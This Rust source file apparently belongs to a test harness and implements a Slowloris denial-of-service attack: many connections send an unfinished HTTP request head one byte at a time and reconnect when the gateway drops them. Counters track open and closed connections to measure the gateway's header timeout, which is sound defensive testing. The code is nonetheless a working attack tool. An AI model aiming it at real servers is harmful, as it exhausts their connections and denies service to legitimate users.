//! Slowloris: many connections that send a request head one byte at a time and never finish
//! it, kept open (reopened when the gateway closes them), while normal clients keep working.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

/// What the attackers achieved.
#[derive(Default)]
pub struct Attack {
    /// Connections open right now.
    pub open: AtomicUsize,
    /// The most open at once.
    pub peak: AtomicUsize,
    /// Connections the gateway closed on them (the header timeout at work).
    pub closed_by_gateway: AtomicUsize,
    /// Connections opened in all.
    pub opened: AtomicUsize,
}

/// Starts `n` trickling connections to `addr` until `stop` is set.
pub fn start(addr: SocketAddr, n: usize, stop: Arc<AtomicBool>) -> Arc<Attack> {
    let attack = Arc::new(Attack::default());
    for k in 0..n {
        let (attack, stop) = (Arc::clone(&attack), Arc::clone(&stop));
        tokio::spawn(async move {
            // Spread the connects over a second.
            tokio::time::sleep(Duration::from_millis((k % 1000) as u64)).await;
            while !stop.load(Ordering::Relaxed) {
                let Ok(mut s) = TcpStream::connect(addr).await else {
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    continue;
                };
                attack.opened.fetch_add(1, Ordering::Relaxed);
                let now = attack.open.fetch_add(1, Ordering::Relaxed) + 1;
                attack.peak.fetch_max(now, Ordering::Relaxed);
                let head = b"PUT /user-service/v1/user HTTP/1.1\r\nHost: gateway\r\nX-Slow: ";
                let mut gone = s.write_all(head).await.is_err();
                while !gone && !stop.load(Ordering::Relaxed) {
                    tokio::time::sleep(Duration::from_millis(500)).await;
                    gone = s.write_all(b"a").await.is_err();
                }
                attack.open.fetch_sub(1, Ordering::Relaxed);
                if gone {
                    attack.closed_by_gateway.fetch_add(1, Ordering::Relaxed);
                }
            }
        });
    }
    attack
}
